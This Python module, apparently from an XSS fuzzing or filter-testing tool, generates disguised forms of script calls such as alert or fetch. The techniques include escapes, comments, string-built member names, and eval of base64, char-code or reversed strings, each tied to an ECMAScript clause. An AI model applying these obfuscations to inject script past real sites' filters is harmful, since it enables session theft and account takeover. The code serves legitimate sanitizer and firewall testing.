"""JavaScript: calls written as others that do the same.

Source: ECMA-262, 12 (lexical grammar), 13.3 (member access and calls), 20.2 (Function), 22.1 (String); the HTML standard
for the globals of a window. The calls are those of a window's dialogs and `fetch`, by which attacks show that they run.
"""

import base64
import re
from collections.abc import Callable
from random import Random

from .html import Attribute, Tag, tags
from .model import Attack, mutation

XSS = ("xss",)
CALL = re.compile(
    r"(?<![\w$.'\"\\])(?P<name>alert|confirm|prompt|print|fetch)\((?P<arguments>[^()]*(?:\([^()]*\)[^()]*)*)\)"
)
HOLDER = ("window", "self", "top", "globalThis", "parent", "frames")


def scripts(attack: Attack, change: Callable[[str], str]) -> str:
    """The payload with each piece of script changed: script elements, handlers, script URLs, and what breaks out of one."""
    text = attack.payload

    def handler(attribute: Attribute) -> None:
        if attribute.value is None:
            return
        if attribute.is_handler:
            attribute.value = change(attribute.value)
        elif found := re.match(r"(?i)(\s*javascript:)(.*)", attribute.value, re.DOTALL):
            attribute.value = found[1] + change(found[2])

    def change_tag(tag: Tag) -> None:
        for attribute in tag.attributes:
            handler(attribute)

    if "<" in text:
        text = tags(attack, change_tag)
        return re.sub(r"(?is)(<script[^>]*>)([^<]+)", lambda m: m[1] + change(m[2]), text)
    if found := re.match(r"([^\"'<>]*[\"']\s[^=]*\bon\w+=)([^\s\"']+)(.*)", text, re.DOTALL):
        new = change(found[2])
        # Inside a tag of the page a bare value ends at a blank; quotes would meet those of the page.
        return text if re.search(r"[\s\"'`=<>]", new) else found[1] + new + found[3]
    if found := re.match(r"(?i)(javascript:)(.*)", text, re.DOTALL):
        return found[1] + change(found[2])
    return change(text) if attack.context is not None or re.match(r"['\"`;]|\w+\(", text) else text


def calls(attack: Attack, write: Callable[[str, str], str | None]) -> str:
    """The payload with calls `name(arguments)` written otherwise."""

    def one(match: re.Match) -> str:
        new = write(match["name"], match["arguments"])
        return match[0] if new is None else new

    return scripts(attack, lambda code: CALL.sub(one, code))


def quoted(text: str, attack: Attack) -> str:
    """A string literal in quotes that the payload does not use yet: it may stand in a literal or an attribute itself."""
    quote = next((q for q in ("'", '"', "`") if q not in attack.payload), "`")
    return quote + text.replace("\\", "\\\\").replace(quote, f"\\{quote}") + quote


def joined(text: str, attack: Attack, rng: Random) -> str:
    """A string literal in two pieces, joined."""
    at = rng.randrange(1, len(text))
    return f"{quoted(text[:at], attack)}+{quoted(text[at:], attack)}"


@mutation("js-blanks", XSS, "Blanks, line ends and the Unicode blanks may stand before the parenthesis (12.2, 12.3).")
def blanks(attack: Attack, rng: Random) -> str:
    """`name (`."""
    return calls(
        attack,
        lambda name, args: f"{name}{rng.choice((' ', chr(9), chr(10), chr(0xA0), chr(0xFEFF), chr(0x2028)))}({args})",
    )


@mutation("js-comments", XSS, "Comments may stand between tokens (12.4).")
def comments(attack: Attack, rng: Random) -> str:
    """`name/**/(`."""
    return calls(attack, lambda name, args: f"{name}{rng.choice(('/**/', '/*x*/', '/*(*/'))}({args})")


@mutation("js-parentheses", XSS, "A function in parentheses is the function (13.2.9).")
def parentheses(attack: Attack, rng: Random) -> str:
    """`(name)(`."""
    return calls(
        attack, lambda name, args: rng.choice((f"({name})({args})", f"(0,{name})({args})", f"((({name})))({args})"))
    )


@mutation("js-optional", XSS, "`?.(` calls what is not null (13.3.9).")
def optional(attack: Attack, rng: Random) -> str:
    """`name?.(`."""
    return calls(attack, lambda name, args: f"{name}?.({args})")


@mutation("js-member", XSS, "A global function is a member of the window; a member can be named by a string (13.3.2).")
def member(attack: Attack, rng: Random) -> str:
    """`window["name"](`."""
    return calls(attack, lambda name, args: f"{rng.choice(HOLDER)}[{quoted(name, attack)}]({args})")


@mutation("js-member-joined", XSS, "+ joins strings (13.8.1); a member can be named by any expression.")
def member_joined(attack: Attack, rng: Random) -> str:
    """`window["na"+"me"](`."""
    return calls(attack, lambda name, args: f"{rng.choice(HOLDER)}[{joined(name, attack, rng)}]({args})")


@mutation("js-member-escaped", XSS, "String literals take \\x, \\u and \\u{} escapes (12.9.4).")
def member_escaped(attack: Attack, rng: Random) -> str:
    """`window["\\x61lert"](`."""

    def write(name: str, args: str) -> str:
        forms = ("\\x{:02x}", "\\u{:04x}", "\\u{{{:x}}}")
        text = "".join(
            rng.choice(forms).format(ord(c)) if rng.random() < 0.6 or not i else c for i, c in enumerate(name)
        )
        return f"{rng.choice(HOLDER)}[{quoted('', attack)[0]}{text}{quoted('', attack)[0]}]({args})"

    return calls(attack, write)


@mutation("js-identifier-escapes", XSS, "Identifiers take \\u and \\u{} escapes (12.7).")
def identifier_escapes(attack: Attack, rng: Random) -> str:
    """`\\u0061lert(`."""

    def write(name: str, args: str) -> str:
        at = rng.randrange(len(name))
        form = rng.choice((f"\\u{ord(name[at]):04x}", f"\\u{{{ord(name[at]):x}}}", f"\\u{{{ord(name[at]):06X}}}"))
        return f"{name[:at]}{form}{name[at + 1 :]}({args})"

    return calls(attack, write)


@mutation("js-call-apply", XSS, "call, apply and Reflect.apply call a function (20.2.3, 28.1.1).")
def call_apply(attack: Attack, rng: Random) -> str:
    """`name.call(null,`."""
    return calls(
        attack,
        lambda name, args: rng.choice((f"{name}.call(null,{args})", f"{name}.apply(null,[{args}])", f"Reflect.apply({name},null,[{args}])", f"{name}.bind(null,{args})()")),
    )  # fmt: skip


@mutation("js-array", XSS, "The methods of an array call what they are given with each of its values (23.1.3).")
def array(attack: Attack, rng: Random) -> str:
    """`[value].map(name)`."""
    methods = ("map", "forEach", "find", "some", "filter")
    return calls(attack, lambda name, args: f"[{args}].{rng.choice(methods)}({name})" if args else None)


@mutation("js-template", XSS, "A template literal behind a function calls it (13.3.11).")
def template(attack: Attack, rng: Random) -> str:
    """Name and template literal."""
    return calls(attack, lambda name, args: f"{name}`{args}`" if args.isdigit() and "`" not in attack.payload else None)


@mutation("js-assigned", XSS, "A function can be given another name (13.15).")
def assigned(attack: Attack, rng: Random) -> str:
    """`(x=name)(`."""
    return calls(attack, lambda name, args: rng.choice((f"(x={name})({args})", f"(x={name},x({args}))")))


@mutation("js-operators", XSS, "Operators in front of a call change only what is done with its value (13.5).")
def operators(attack: Attack, rng: Random) -> str:
    """`void name(`, `!name(`."""
    return calls(
        attack,
        lambda name, args: rng.choice(
            (f"void {name}({args})", f"!{name}({args})", f"~{name}({args})", f"typeof {name}({args})")
        ),
    )


@mutation("js-eval", XSS, "eval, Function and setTimeout run strings (19.2.1, 20.2.1; HTML 8.7).")
def evaluated(attack: Attack, rng: Random) -> str:
    """The call as a string that is run."""

    def write(name: str, args: str) -> str | None:
        if re.search(r"[\"'`\\]", args):
            return None
        code = quoted(f"{name}({args})", attack)
        return rng.choice(
            (
                f"eval({code})",
                f"Function({code})()",
                f"setTimeout({code})",
                f"[].constructor.constructor({code})()",
                f"new Function({code})()",
            )
        )

    return calls(attack, write)


@mutation("js-eval-joined", XSS, "eval and Function run strings, and + joins them.")
def evaluated_joined(attack: Attack, rng: Random) -> str:
    """The call as joined strings that are run."""

    def write(name: str, args: str) -> str | None:
        if re.search(r"[\"'`\\]", args):
            return None
        code = joined(f"{name}({args})", attack, rng)
        return rng.choice((f"eval({code})", f"Function({code})()", f"setTimeout({code})"))

    return calls(attack, write)


@mutation("js-char-codes", XSS, "String.fromCharCode makes a string of numbers (22.1.2.1).")
def char_codes(attack: Attack, rng: Random) -> str:
    """The call by its codes."""

    def write(name: str, args: str) -> str:
        return f"eval(String.fromCharCode({','.join(str(ord(c)) for c in f'{name}({args})')}))"

    return calls(attack, write)


@mutation("js-base64", XSS, "atob undoes base64 (HTML 8.3).")
def base64_code(attack: Attack, rng: Random) -> str:
    """The call in base64."""

    def write(name: str, args: str) -> str:
        code = base64.b64encode(f"{name}({args})".encode()).decode()
        return f"eval(atob({quoted(code, attack)}))"

    return calls(attack, write)


@mutation("js-reversed", XSS, "Split, reverse and join turn a string around (22.1.3.23, 23.1.3.26).")
def reversed_code(attack: Attack, rng: Random) -> str:
    """The call written backwards."""

    def write(name: str, args: str) -> str | None:
        if re.search(r"[\"'`\\]", args):
            return None
        empty = quoted("", attack)
        return f"eval({quoted(f'{name}({args})'[::-1], attack)}.split({empty}).reverse().join({empty}))"

    return calls(attack, write)


@mutation("js-regexp-source", XSS, "The source of a regular expression is a string (22.2.6.13).")
def regexp_source(attack: Attack, rng: Random) -> str:
    """`window[/name/.source](`."""
    return calls(attack, lambda name, args: f"{rng.choice(HOLDER)}[/{name[:2]}/.source+/{name[2:]}/.source]({args})")


@mutation("js-radix", XSS, "A number written to the base 36 can be any word (21.1.3.6).")
def radix(attack: Attack, rng: Random) -> str:
    """`window[number.toString(36)](`."""
    return calls(attack, lambda name, args: f"{rng.choice(HOLDER)}[({int(name, 36)}).toString(36)]({args})")
